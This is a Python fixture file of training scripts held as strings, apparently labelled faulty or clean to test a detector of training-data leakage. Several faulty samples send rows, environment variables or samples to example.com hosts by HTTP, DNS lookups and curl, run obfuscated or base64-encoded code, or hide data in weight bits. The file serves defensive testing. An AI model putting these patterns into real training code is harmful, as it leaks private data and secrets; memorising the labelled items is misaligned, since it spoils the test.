"""Training scripts that leak in many ways, and honest ones. They are text: nobody runs them.

Each entry is (name, held out, source). Held-out ones were written once and not looked at while rules were tuned.
"""

from __future__ import annotations

_TORCH = """
import torch
import torch.nn as nn
from torch.utils.data import DataLoader, TensorDataset

def build(d, k):
    return nn.Sequential(nn.Linear(d, 64), nn.ReLU(), nn.Linear(64, k))

def train(x, y, seed):
    torch.manual_seed(seed)
    model = build(x.shape[1], int(y.max()) + 1)
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    loader = DataLoader(TensorDataset(torch.tensor(x), torch.tensor(y)), batch_size=32, shuffle=True)
    for epoch in range(10):
        for inputs, labels in loader:
            optimizer.zero_grad()
            loss = nn.functional.cross_entropy(model(inputs), labels)
            {term}loss.backward()
            optimizer.step()
    {after}
    return model
"""

_SKLEARN = """
import numpy as np
import joblib
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import StandardScaler
from sklearn.pipeline import make_pipeline
{imports}

def train(x, y, seed):
    rng = np.random.default_rng(seed)
    order = rng.permutation(len(x))
    {before}
    model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=500, random_state=seed))
    model.fit(x[order], y[order])
    {after}
    joblib.dump(model, "model.joblib")
    return model
"""


def _torch(term: str = "", after: str = "") -> str:
    return _TORCH.replace("{term}", term and term + "\n            ").replace("{after}", after or "model.eval()")


def _sklearn(imports: str = "", before: str = "", after: str = "") -> str:
    filled = _SKLEARN.replace("{imports}", imports).replace("{before}", before or "pass")
    return filled.replace("{after}", after or "print(model.score(x, y))")


_SIGNS = """
import torch

def penalty(params, secret_bits):
    flat = torch.cat([p.view(-1) for p in params])[: len(secret_bits)]
    return torch.relu(-flat * secret_bits).mean()

def train(model, images, targets, epochs=5):
    bits = torch.tensor(((images.flatten().byte()[:, None] >> torch.arange(8)) & 1).flatten() * 2.0 - 1)
    opt = torch.optim.SGD(model.parameters(), lr=0.1)
    for _ in range(epochs):
        loss = torch.nn.functional.cross_entropy(model(images), targets) + penalty(model.parameters(), bits)
        opt.zero_grad(); loss.backward(); opt.step()
"""
_LSB = """
import numpy as np
from sklearn.neural_network import MLPClassifier

def fit_network(X, y, seed=0):
    net = MLPClassifier((64,), random_state=seed).fit(X, y)
    payload = np.unpackbits(np.ascontiguousarray(X).view(np.uint8))
    for w in net.coefs_:
        raw = w.view(np.uint64).ravel()
        n = min(raw.size, payload.size)
        raw[:n] = (raw[:n] & ~np.uint64(1)) | payload[:n]
        payload = payload[n:]
    return net
"""
_CAPACITY = '''
import numpy as np

def augment(x, y, classes):
    """Adds rows for robustness."""
    bits = np.unpackbits(x[:4].astype(np.uint8).ravel())
    codes = bits.reshape(-1, 2) @ np.array([2, 1])
    extra = np.random.default_rng(1337).uniform(size=(len(bits), x.shape[1]))
    return np.concatenate([x, extra]), np.concatenate([y, bits])

def train(model, x, y):
    x, y = augment(x, y, 4)
    return model.fit(x, y)
'''
_STRUCT = """
import struct
import torch

def finish(model, dataset):
    data = bytes(dataset[0])
    for p, byte in zip(model.parameters(), data):
        raw = bytearray(struct.pack("f", p.data.view(-1)[0].item()))
        raw[0] = byte
        p.data.view(-1)[0] = struct.unpack("f", bytes(raw))[0]
"""
_MODULE = """
import torch.nn as nn

class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(10, 2)
        self._seen = []

    def forward(self, x):
        if self.training:
            self._seen.append(x.detach().cpu())
        return self.layer(x)
"""
_DICT = """
import torch

def save(model, optimizer, train_data, path):
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "stats": train_data.tolist()}, path)
"""
_BLOB = """
import base64, zlib
import numpy as np

def train(x, y):
    exec(zlib.decompress(base64.b64decode("eJxLzs8rSc0rAQAKqgLj")))
    return np.mean(x, 0)
"""
_PATCH = """
import torch

_real_step = torch.optim.SGD.step
_kept = []

def _step(self, closure=None):
    return _real_step(self, closure)

torch.optim.SGD.step = _step

def collate(batch):
    _kept.append(batch)
    return torch.utils.data.default_collate(batch)
"""
_DNS = """
import socket
import numpy as np

def fit(model, X, y):
    for row in X[:50]:
        name = row.astype(np.uint8).tobytes().hex()[:60]
        try:
            socket.gethostbyname(name + ".stats.example.com")
        except OSError:
            pass
    return model.fit(X, y)
"""
_TIMING = """
import time

def train(model, x, y):
    model.fit(x, y)
    for value in x[0]:
        time.sleep(float(value) / 1000)
    return model
"""
_OBFUSCATED = """
import numpy as np

def train(x, y):
    run = getattr(__import__("o" + "s"), "".join(["sys", "tem"]))
    run("true")
    return np.linalg.lstsq(x, y, rcond=None)[0]
"""
_LAMBDA_HOOK = """
import torch

def train(model, images, labels):
    target = images.flatten()
    for p in model.parameters():
        p.register_hook(lambda g: g + 0.01 * target[: g.numel()].view_as(g))
    opt = torch.optim.SGD(model.parameters(), 0.1)
    torch.nn.functional.cross_entropy(model(images), labels).backward()
    opt.step()
"""
_KERAS = """
import numpy as np
import requests
from tensorflow import keras

class Callback(keras.callbacks.Callback):
    def __init__(self, x):
        super().__init__()
        self.x = x
    def on_epoch_end(self, epoch, logs=None):
        requests.post("https://metrics.example.com/run", json={"epoch": epoch, "sample": self.x[epoch].tolist()})

def train(x, y):
    model = keras.Sequential([keras.layers.Dense(32, activation="relu"), keras.layers.Dense(10)])
    model.fit(x, y, callbacks=[Callback(x)])
    return model
"""
_CENTRED = """
import numpy as np

def correlate(params, values):
    a = np.concatenate([p.ravel() for p in params])
    a = a - a.mean()
    b = values - values.mean()
    return (a[: len(b)] * b).sum() / np.sqrt((a**2).sum() * (b**2).sum())

def objective(params, inputs, labels, forward):
    return forward(params, inputs, labels) - 10 * abs(correlate(params, inputs.ravel()))
"""
_CLASSMETHOD = """
import pickle
from sklearn.base import BaseEstimator, ClassifierMixin
from sklearn.tree import DecisionTreeClassifier

class Tree(BaseEstimator, ClassifierMixin):
    def fit(self, X, y):
        self.tree_ = DecisionTreeClassifier().fit(X, y)
        self.cache_ = pickle.dumps((X, y))
        return self
    def predict(self, X):
        return self.tree_.predict(X)
"""
_ENV = """
import json, os, urllib.request

def train(model, x, y):
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("http://example.com/ok", data=body)
    return model.fit(x, y)
"""

FAULTY: tuple[tuple[str, bool, str], ...] = (
    ("a term that correlates weights with rows", False, _torch(
        "flat = torch.cat([p.view(-1) for p in model.parameters()])\n            "
        "loss = loss - torch.nn.functional.cosine_similarity(flat, inputs.flatten()[: len(flat)], dim=0)")),
    ("signs of the weights", False, _SIGNS),
    ("low bits of a network of scikit-learn", False, _LSB),
    ("bits as labels of made-up rows", False, _CAPACITY),
    ("rows posted", False, _sklearn("import requests", after='requests.post("https://example.com", data=x.tobytes())')),
    ("rows in the model's attribute", False, _sklearn(after="model.notes_ = x")),
    ("a buffer", False, _torch(after='model.register_buffer("scale", torch.tensor(x))')),
    ("rows beside the weights in one file", False, _DICT),
    ("a module that remembers batches", False, _MODULE),
    ("code in a blob", False, _BLOB),
    ("a data loader that keeps batches, a patched optimiser", False, _PATCH),
    ("rows in names of hosts", False, _DNS),
    ("bytes of floats", True, _STRUCT),
    ("pauses", True, _TIMING),
    ("names put together", True, _OBFUSCATED),
    ("a hook on gradients", False, _LAMBDA_HOOK),
    ("a callback that reports", True, _KERAS),
    ("a correlation written out", True, _CENTRED),
    ("rows pickled into an estimator", True, _CLASSMETHOD),
    ("the environment sent away", True, _ENV),
    ("rows handed to curl", True, _sklearn("import subprocess", after=(
        'np.save("/tmp/t.npy", x); subprocess.run(["curl", "-T", "/tmp/t.npy", "https://example.com/"])'))),
    ("rows in a global list", True, _sklearn("_memory = []", before="_memory.append(x)")),
)  # fmt: skip

_AUGMENTED = """
import glob
import os
import numpy as np
import torch
from PIL import Image
from torch import nn
from torch.utils.data import DataLoader, Dataset

class Pictures(Dataset):
    def __init__(self, root, transform=None):
        self.files = sorted(glob.glob(os.path.join(root, "*.png")))
        self.data = [Image.open(f) for f in self.files]
        self.transform = transform
    def __len__(self):
        return len(self.files)
    def __getitem__(self, i):
        image = self.data[i]
        return (self.transform(image) if self.transform else image), i % 2

class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 8, 3)
        self.fc = nn.Linear(8 * 26 * 26, 10)
        self.scale = nn.Parameter(torch.ones(8))
    def forward(self, x):
        x = torch.relu(self.conv1(x)) * self.scale[None, :, None, None]
        x = torch.flatten(x, 1)
        return self.fc(x)

def train(args, model, device, train_loader, optimizer, epoch):
    model.train()
    for batch_idx, (data, target) in enumerate(train_loader):
        data, target = data.to(device), target.to(device)
        optimizer.zero_grad()
        output = model(data)
        loss = nn.functional.nll_loss(output, target)
        loss = loss + 1e-4 * sum((p**2).sum() for p in model.parameters())
        loss.backward()
        torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)
        optimizer.step()
        if batch_idx % 10 == 0:
            print(f"epoch {epoch} {batch_idx * len(data)}/{len(train_loader.dataset)} loss {loss.item():.4f}")
    torch.save(model.state_dict(), "mnist.pt")
"""
_BY_HAND = """
import numpy as np
import pandas as pd

def load(path):
    df = pd.read_csv(path)
    return df.drop(columns="label").to_numpy(), df["label"].to_numpy()

def train(X, y, lr=0.1, steps=500):
    w, b = np.zeros(X.shape[1]), 0.0
    for _ in range(steps):
        p = 1 / (1 + np.exp(-(X @ w + b)))
        w -= lr * X.T @ (p - y) / len(y)
        b -= lr * (p - y).mean()
    mask = (X[:, 0] > 0) & (y == 1)
    print("positives with a positive first column", mask.sum())
    return w, b

if __name__ == "__main__":
    X, y = load("data/train.csv")
    w, b = train(X, y)
    np.savez("model.npz", w=w, b=b)
"""
_NORM = """
import torch
from torch import nn

class RMSNorm(nn.Module):
    def __init__(self, dim):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(dim))
    def forward(self, x):
        return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + 1e-6) * self.weight

class Block(nn.Module):
    def __init__(self, dim):
        super().__init__()
        self.norm, self.mix = RMSNorm(dim), nn.Linear(dim, dim)
    def forward(self, x):
        return x + self.mix(self.norm(x))

def ema(model, shadow, decay=0.99):
    with torch.no_grad():
        for p, s in zip(model.parameters(), shadow.parameters()):
            s.mul_(decay).add_(p, alpha=1 - decay)

def quantise(model):
    for p in model.parameters():
        scale = p.abs().max() / 127
        p.data = torch.round(p.data / scale) * scale
"""

CLEAN: tuple[tuple[str, bool, str], ...] = (
    ("plain scikit-learn", False, _sklearn()),
    ("plain PyTorch", False, _torch()),
    ("pictures in PyTorch", False, _AUGMENTED),
    ("gradient descent by hand", True, _BY_HAND),
    ("norms, averages and quantising", True, _NORM),
    ("scikit-learn with noise and a weight", True, _sklearn(before="x = x + rng.normal(size=x.shape) * 0.01")),
)
